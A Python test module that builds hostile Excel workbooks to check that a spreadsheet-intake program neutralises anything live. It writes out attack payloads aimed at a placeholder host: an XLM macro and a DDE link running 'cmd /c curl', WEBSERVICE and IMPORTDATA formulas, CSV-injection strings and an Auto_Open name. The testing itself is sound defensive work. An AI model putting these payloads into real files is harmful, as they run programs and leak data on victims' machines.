"""What must never come alive: macros, objects, links, DDE, and formulas, each under a form that is otherwise good.

The form is taken, and of what came along only texts and results arrive; ``tests/hostile/test_nothing_live.py`` looks
into the master for the rest. :data:`CANARY` stands in everything that would betray itself by being followed.
"""

from kehoach_xl.building.vba import master_project
from tests.hostile.kit import (
    ACCEPTED,
    SHEET,
    WORKBOOK,
    Kit,
    formula_cell,
    kind,
    packed,
    parts,
    text_cell,
    with_cells,
)  # fmt: skip

CANARY = "canary.invalid"
URL = f"http://{CANARY}/x"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def with_part(kit: Kit, name: str, data: bytes, relation: str, content_type: str, macro: bool = False) -> bytes:
    """The filled form with one more part that the workbook refers to."""
    found = kit.parts()
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    types = found["[Content_Types].xml"].replace(b"</Types>", override.encode())
    if macro:
        types = types.replace(
            f"{_TYPES}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        )
    target = name.removeprefix("xl/")
    link = f'<Relationship Id="rId900" Type="{relation}" Target="{target}"/></Relationships>'
    rels = found["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", link.encode())
    return packed(found | {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels, name: data})


@kind("saved as .xlsm with a VBA project inside", ACCEPTED, "MERGE_001", file="phieu.xlsm")
def macros(kit: Kit) -> bytes:
    return with_part(
        kit, "xl/vbaProject.bin", master_project(["Sheet1"]),
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "application/vnd.ms-office.vbaProject", True,
    )  # fmt: skip


@kind("an old XLM macro sheet that runs a program", ACCEPTED, "MERGE_001", file="phieu.xlsm")
def macro_sheet(kit: Kit) -> bytes:
    sheet = (
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
        f'<f>EXEC("curl {URL}")</f></c></row></sheetData></xm:macrosheet>'
    )
    return with_part(
        kit, "xl/macrosheets/sheet1.xml", sheet.encode(),
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "application/vnd.ms-excel.macrosheet+xml", True,
    )  # fmt: skip


@kind("an OLE object embedded in the sheet", ACCEPTED, "MERGE_001")
def ole_object(kit: Kit) -> bytes:
    return packed(kit.parts() | {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)})


@kind("an ActiveX control", ACCEPTED, "MERGE_001")
def activex(kit: Kit) -> bytes:
    return packed(kit.parts() | {"xl/activeX/activeX1.bin": bytes(2000), "xl/activeX/activeX1.xml": b"<a/>"})


@kind("a link to another workbook, and cells that show its values", ACCEPTED, "MERGE_001",
      changed={("3.15", "result"): "12 hội nghị"})  # fmt: skip
def external_link(kit: Kit) -> bytes:
    link = (
        f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_OFFICE}">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    data = with_part(
        kit,
        "xl/externalLinks/externalLink1.xml",
        link.encode(),
        f"{_OFFICE}/externalLink",
        f"{_TYPES}.externalLink+xml",
    )
    found = parts(data)
    found["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/externalLinkPath" Target="file://{CANARY}/a.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    link = f'<externalReferences><externalReference xmlns:r="{_OFFICE}" r:id="rId900"/></externalReferences>'
    found[WORKBOOK] = found[WORKBOOK].replace(b"</sheets>", f"</sheets>{link}".encode())
    found[SHEET] = with_cells(found[SHEET], dict([formula_cell("3.15", "result", "[1]S!$A$1", "12 hội nghị")]))
    return packed(found)


@kind("a DDE link that starts a program", ACCEPTED, "MERGE_001", changed={("3.15", "result"): "0"})
def dde(kit: Kit) -> bytes:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        f'ddeTopic="/c curl {URL}"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    data = with_part(
        kit,
        "xl/externalLinks/externalLink1.xml",
        link.encode(),
        f"{_OFFICE}/externalLink",
        f"{_TYPES}.externalLink+xml",
    )
    found = parts(data)
    found[SHEET] = with_cells(found[SHEET], dict([formula_cell("3.15", "result", "[1]!A1", "0", "n")]))
    return packed(found)


@kind("a query that Excel would refresh from the web", ACCEPTED, "MERGE_001")
def connection(kit: Kit) -> bytes:
    text = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="x" '
        f'type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="{URL}"/></connection></connections>'
    )
    return with_part(kit, "xl/connections.xml", text.encode(), f"{_OFFICE}/connections", f"{_TYPES}.connections+xml")


@kind("hyperlinks on reporting cells, to the web, to a program, to a share", ACCEPTED, "MERGE_001")
def hyperlinks(kit: Kit) -> bytes:
    def touch(book, sheet) -> None:
        for row, target in ((11, URL), (12, "file:///C:/Windows/System32/calc.exe"), (13, f"\\\\{CANARY}\\share")):
            sheet.cell(row, 10).hyperlink = target

    return kit.filled(touch=touch)


LIVE = {
    "3.15": f'HYPERLINK("{URL}","bấm vào đây")',
    "3.16": f'WEBSERVICE("{URL}")',
    "4.1": f'IMPORTDATA("{URL}")',
    "4.2": f"cmd|'/c curl {URL}'!A0",
    "4.3": f"INDIRECT(\"'file://{CANARY}/[a.xlsx]S'!A1\")",
    "4.4": f'RTD("{CANARY}",,"x")',
}


def escaped(formula: str) -> str:
    return formula.replace("&", "&amp;").replace("<", "&lt;")


@kind("live formulas that call out, calculated by the agency's program", ACCEPTED, "MERGE_001",
      changed={(code, "result"): f"kết quả {code}" for code in LIVE}, said={"MERGE_022"})  # fmt: skip
def calculated_formulas(kit: Kit) -> bytes:
    return kit.sheet(*(formula_cell(code, "result", escaped(f), f"kết quả {code}") for code, f in LIVE.items()))


@kind("live formulas that call out, never calculated: their text is asked about", ACCEPTED, "MERGE_001",
      changed={(code, "result"): None for code in LIVE}, asked={(code, "result") for code in LIVE})  # fmt: skip
def bare_formulas(kit: Kit) -> bytes:
    return kit.sheet(*(formula_cell(code, "result", escaped(f)) for code, f in LIVE.items()))


TEXTS = {
    "3.15": f"=cmd|' /c curl {URL}'!A0",
    "3.16": f'+HYPERLINK("{URL}")',
    "4.1": f'-2+3+WEBSERVICE("{URL}")',
    "4.2": "@SUM(A1:A9)",
    "4.3": f'\t=IMPORTXML("{URL}","//a")',
    "4.4": f'\r=DDE("cmd";"{URL}";"x")',
}


@kind("texts that become formulas where they are written carelessly (CSV injection)", ACCEPTED, "MERGE_001",
      changed={(code, "result"): text.strip() for code, text in TEXTS.items()})  # fmt: skip
def formula_texts(kit: Kit) -> bytes:
    cells = (text_cell(code, "result", escaped(t).replace("\r", "_x000D_")) for code, t in TEXTS.items())
    return kit.sheet(*cells)


@kind("a formula in every kind of column: status, percent, date", ACCEPTED, "MERGE_001",
      changed={("3.15", "percent"): 50.0}, said={"MERGE_022"})  # fmt: skip
def formulas_everywhere(kit: Kit) -> bytes:
    return kit.sheet(
        formula_cell("3.15", "status", '"Hoàn"&amp;" thành"', "Hoàn thành"),
        formula_cell("3.15", "percent", "25*2", "50", "n"),
        formula_cell("3.15", "finish_date", "TODAY()", "45962", "n"),
    )  # fmt: skip


@kind("errors of formulas in reporting cells", ACCEPTED, "MERGE_001",
      changed={("3.15", "percent"): None, ("3.16", "result"): None, ("4.1", "finish_date"): None},
      asked={("3.15", "percent"), ("3.16", "result"), ("4.1", "finish_date")})  # fmt: skip
def error_values(kit: Kit) -> bytes:
    return kit.sheet(
        formula_cell("3.15", "percent", "1/0", "#DIV/0!", "e"), formula_cell("3.16", "result", "NA()", "#N/A", "e"),
        formula_cell("4.1", "finish_date", "nope()", "#NAME?", "e"),
    )  # fmt: skip


@kind("an array formula that spills over other cells", ACCEPTED, "MERGE_001",
      changed={(code, "percent"): 10.0 * n for n, code in enumerate(("3.15", "3.16", "4.1"), 1)})  # fmt: skip
def array_formula(kit: Kit) -> bytes:
    first = '<c r="H11"><f t="array" ref="H11:H13">{10;20;30}</f><v>10</v></c>'
    return kit.sheet(("H11", first), ("H12", '<c r="H12"><v>20</v></c>'), ("H13", '<c r="H13"><v>30</v></c>'))


@kind("names that Excel runs by itself when a workbook opens", ACCEPTED, "MERGE_001")
def auto_open(kit: Kit) -> bytes:
    name = '<definedName name="_xlnm.Auto_Open" hidden="1">\'Báo cáo\'!$A$1</definedName></definedNames>'
    return kit.edited(WORKBOOK, lambda data: data.replace(b"</definedNames>", name.encode()))


@kind("links and pictures from afar in the drawings and the background", ACCEPTED, "MERGE_001")
def remote_picture(kit: Kit) -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/image" Target="{URL}.png" TargetMode="External"/></Relationships>'
    )
    return packed(
        kit.parts() | {"xl/drawings/_rels/drawing1.xml.rels": rels.encode(), "xl/drawings/drawing1.xml": b"<a/>"}
    )
